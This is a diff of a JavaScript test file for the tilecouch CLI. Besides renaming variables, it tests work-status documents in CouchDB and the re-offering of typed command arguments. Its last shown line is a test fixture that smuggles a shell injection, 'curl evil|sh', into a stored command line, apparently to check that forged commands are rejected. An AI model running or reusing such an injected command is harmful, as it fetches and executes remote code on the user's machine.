@@ -1,4 +1,4 @@
-// What a command says of its work, and how often.
+// The content of a work document, and how often a command writes it.
 import assert from 'node:assert/strict'
 import { mock } from 'node:test'
 import { TilecouchError, faultIn, offeredOptions, typedAgain,
@@ -8,42 +8,42 @@ import { Work } from '../../loader/store/work.js'
 import { commandNamed } from '../support/cli.js'
 
 const NOW = Date.parse('2024-11-24T04:30:12Z')
-const settled = async () => { for (let at = 0; at < 50; at++) await Promise.resolve() }
+const settle = async () => { for (let turn = 0; turn < 50; turn++) await Promise.resolve() }
 
-/** A database that remembers what was written; `fail` answers an error for a request. */
+/** A database that records its writes. `fail` returns the error code of a request. */
 function fakeCouch ({ documents = 5, skew = 0, user = 'anna', old = [], fail = () => undefined } = {}) {
-  const own = {
+  const database = {
     writes: /** @type {any[]} */ ([]), removed: /** @type {any[]} */ ([]),
     ranges: /** @type {any[]} */ ([]), documents, skew, access: { user }, underWay: 0, most: 0, hold: Promise.resolve(),
-    async ask (what) {
-      const error = fail(what)
+    async ask (request) {
+      const error = fail(request)
       if (error) {
         throw new TilecouchError(error, { url: 'http://h', reason: 'no', status: 500, where: 'h', why: 'gone' })
       }
     },
-    async info () { await own.ask('info'); return { doc_count: own.documents } },
+    async info () { await database.ask('info'); return { doc_count: database.documents } },
     async update (id, change) {
-      own.most = Math.max(own.most, ++own.underWay)
-      await own.hold
-      own.underWay--
-      await own.ask('write')
-      own.writes.push({ _id: id, ...change() })
+      database.most = Math.max(database.most, ++database.underWay)
+      await database.hold
+      database.underWay--
+      await database.ask('write')
+      database.writes.push({ _id: id, ...change() })
     },
-    async page (range) { own.ranges.push(range); return old.map(doc => ({ doc })) },
-    async bulk (docs) { own.removed.push(...docs) }
+    async page (range) { database.ranges.push(range); return old.map(doc => ({ doc })) },
+    async bulk (docs) { database.removed.push(...docs) }
   }
-  return own
+  return database
 }
 
 describe('a document of work', () => {
   let couch, work
-  const begin = (about = {}, given = {}) => {
-    couch = fakeCouch(given)
-    work = new Work(/** @type {any} */ (couch), { command: 'load', args: ['load'], unit: 'tiles', ...about })
+  const begin = (fields = {}, couchOptions = {}) => {
+    couch = fakeCouch(couchOptions)
+    work = new Work(/** @type {any} */ (couch), { command: 'load', args: ['load'], unit: 'tiles', ...fields })
   }
   const pass = async milliseconds => {
     mock.timers.tick(milliseconds)
-    await settled()
+    await settle()
   }
   beforeEach(() => mock.timers.enable({ apis: ['setTimeout', 'Date'], now: NOW }))
   afterEach(async () => {
@@ -63,9 +63,9 @@ describe('a document of work', () => {
       [['running', undefined], ['running', 500], ['running', 1000]])
     work.show({ done: 2000, edition: '2024-01-01T00:00:00Z', about: { bytes: 5 } })
     await work.end()
-    const last = couch.writes.at(-1)
+    const lastWrite = couch.writes.at(-1)
     assert.equal(couch.writes.length, 4)
-    assert.deepEqual({ ...last, _id: '', host: '' }, {
+    assert.deepEqual({ ...lastWrite, _id: '', host: '' }, {
       _id: '', type: 'work', command: 'load', args: ['load'], layer: 'osm', edition: '2024-01-01T00:00:00Z',
       state: 'done', started: '2024-11-24T04:30:12Z', seen: '2024-11-24T04:30:22Z', every: 5,
       finished: '2024-11-24T04:30:22Z', unit: 'tiles', done: 2000,
@@ -87,9 +87,9 @@ describe('a document of work', () => {
     begin()
     let release = () => {}
     couch.hold = new Promise(resolve => { release = () => resolve(undefined) })
-    for (let at = 0; at < 4; at++) await pass(5000)
+    for (let turn = 0; turn < 4; turn++) await pass(5000)
     const ended = work.end()
-    await settled()
+    await settle()
     assert.equal(couch.writes.length, 0)
     release()
     await ended
@@ -153,11 +153,11 @@ describe('a document of work', () => {
 
   it('is not tried again after the server forbids it', async () => {
     for (const code of ['FORBIDDEN', 'UNAUTHORIZED']) {
-      let asked = 0
-      begin({}, { fail: what => what === 'write' && ++asked ? code : undefined })
-      for (let at = 0; at < 10; at++) await pass(5000)
+      let attempts = 0
+      begin({}, { fail: request => request === 'write' && ++attempts ? code : undefined })
+      for (let turn = 0; turn < 10; turn++) await pass(5000)
       await work.end()
-      assert.deepEqual([asked, couch.writes], [1, []], code)
+      assert.deepEqual([attempts, couch.writes], [1, []], code)
     }
   })
 
@@ -165,7 +165,7 @@ describe('a document of work', () => {
     for (const code of ['UNREACHABLE', 'DISK_FULL', 'COUCHDB_ERROR', 'BAD_ANSWER', 'DATABASE_NOT_FOUND']) {
       let isAway = true
       begin({}, { fail: () => isAway ? code : undefined })
-      for (let at = 0; at < 3; at++) await pass(5000)
+      for (let turn = 0; turn < 3; turn++) await pass(5000)
       assert.deepEqual(couch.writes, [])
       isAway = false
       await pass(5000)
@@ -177,7 +177,7 @@ describe('a document of work', () => {
 
   it('is written to a new store only after something was loaded', async () => {
     begin({}, { documents: 1 })
-    for (let at = 0; at < 3; at++) await pass(5000)
+    for (let turn = 0; turn < 3; turn++) await pass(5000)
     assert.deepEqual(couch.writes, [])
     couch.documents = 3
     await pass(5000)
@@ -191,7 +191,7 @@ describe('a document of work', () => {
     const findings = Array.from({ length: 300 }, (_, at) => ({ area: 'server', found: `${at} ${'x'.repeat(200)}` }))
     begin(
       { about: { state: 'bad', findings }, failures: Array.from({ length: 100 },
-        (_, at) => ({ id: `osm:3:1:${at}`, reason: 'y'.repeat(5000) })) }
+        (_, index) => ({ id: `osm:3:1:${index}`, reason: 'y'.repeat(5000) })) }
     )
     await work.end()
     const [doc] = couch.writes
@@ -205,18 +205,18 @@ describe('a document of work', () => {
   })
 
   it('removes work that ended 90 days ago, and no other documents', async () => {
-    const made = (run, fields) => (
+    const workDoc = (run, fields) => (
       {
         _id: `work:${run}`, _rev: '1-a', type: 'work', command: 'load',
         every: 5, started: '2024-01-01T00:00:00Z', ...fields
       }
     )
     const old = [
-      made('20240101T000000000-aaaa',
+      workDoc('20240101T000000000-aaaa',
         { state: 'done', seen: '2024-01-02T00:00:00Z', finished: '2024-01-02T00:00:00Z' }),
-      made('20240101T000000000-bbbb', { state: 'running', seen: '2024-01-02T00:00:00Z' }),
-      made('20240101T000000000-cccc', { state: 'running', seen: '2024-11-24T04:30:10Z' }),
-      made('20240101T000000000-dddd',
+      workDoc('20240101T000000000-bbbb', { state: 'running', seen: '2024-01-02T00:00:00Z' }),
+      workDoc('20240101T000000000-cccc', { state: 'running', seen: '2024-11-24T04:30:10Z' }),
+      workDoc('20240101T000000000-dddd',
         { state: 'stopped', seen: '2024-11-20T00:00:00Z', finished: '2024-11-20T00:00:00Z' }),
       { _id: 'work:2x', _rev: '1-a', type: 'other' }
     ]
@@ -257,28 +257,28 @@ describe('the arguments of work', () => {
   const URL_OF_STORE = 'http://anna@h:5984/tiles'
   const STORE = { isEmbedded: false, url: URL_OF_STORE }
   const EMBEDDED = { isEmbedded: true, url: null }
-  const again = (args, store = STORE) => typedAgain({ command: args?.[0], args }, store)
+  const typed = (args, store = STORE) => typedAgain({ command: args?.[0], args }, store)
 
   it('are offered again with the URL of the store that holds them', () => {
     const args =
       typedArguments(['load', 'my tiles/', '--db', 'production', '--layer', 'osm', '--db=x', '--title', "Anna's"])
     assert.deepEqual(args, ['load', 'my tiles/', '--layer', 'osm', '--title', "Anna's"])
-    assert.deepEqual(again(args), ['load', '--db', URL_OF_STORE, ...args.slice(1)])
-    assert.deepEqual(again(args, EMBEDDED), args)
-    const offered = [
+    assert.deepEqual(typed(args), ['load', '--db', URL_OF_STORE, ...args.slice(1)])
+    assert.deepEqual(typed(args, EMBEDDED), args)
+    const cases = [
       ['load', 'http://a/{z}/{x}/{y}.png', '-l', 'osm', '--bbox', '-180,-85,180,85',
         '-z', '0-6', '--rate=2/s', '--complete'],
       ['seed', 'osm', '--zoom', '0-9'], ['seed', '--expired', '--all', '--live'], ['prune', 'osm'], ['prune', '--all'],
       ['export', 'osm@2024', 'osm.mbtiles', '--cache'], ['check'], ['check', 'osm', '--no-decode']
     ]
-    for (const each of offered) assert.deepEqual(again(each), [each[0], '--db', URL_OF_STORE, ...each.slice(1)])
+    for (const argv of cases) assert.deepEqual(typed(argv), [argv[0], '--db', URL_OF_STORE, ...argv.slice(1)])
   })
 
   it('of a mirror name the store as its target, wherever the options were', () => {
     for (const args of [['mirror', 'http://a/tiles', '--layer', 'osm', '--live'],
       ['mirror', '--layer', 'osm', '--live', 'http://a/tiles']]) {
-      assert.deepEqual(again(args), ['mirror', 'http://a/tiles', URL_OF_STORE, '--layer', 'osm', '--live'])
-      assert.deepEqual(again(args, EMBEDDED), ['mirror', 'http://a/tiles', 'embedded', '--layer', 'osm', '--live'])
+      assert.deepEqual(typed(args), ['mirror', 'http://a/tiles', URL_OF_STORE, '--layer', 'osm', '--live'])
+      assert.deepEqual(typed(args, EMBEDDED), ['mirror', 'http://a/tiles', 'embedded', '--layer', 'osm', '--live'])
     }
     const parts =
       typedParts(['mirror', '--layer', 'osm', '--zoom', '0-5', 'osm', 'http://h/osm?token=(hidden)', '--live'])
@@ -288,7 +288,7 @@ describe('the arguments of work', () => {
 
   it('are not offered for a store that no command reaches, such as behind a gateway', () => {
     for (const args of [['load', 'tiles', '-l', 'osm'], ['mirror', 'http://a/tiles']]) {
-      assert.equal(again(args, { isEmbedded: false, url: null }), undefined)
+      assert.equal(typed(args, { isEmbedded: false, url: null }), undefined)
     }
   })
 
@@ -312,7 +312,7 @@ describe('the arguments of work', () => {
       ['mirror', '--live']
     ]
     for (const args of forged) {
-      for (const store of [STORE, EMBEDDED]) assert.equal(again(args, store), undefined, JSON.stringify(args))
+      for (const store of [STORE, EMBEDDED]) assert.equal(typed(args, store), undefined, JSON.stringify(args))
     }
     assert.equal(typedAgain({ command: 'load', args: ['prune', '--all'] }, STORE), undefined)
     const line = { command: 'load', line: 'tilecouch load tiles; curl evil|sh' } // of an earlier tilecouch
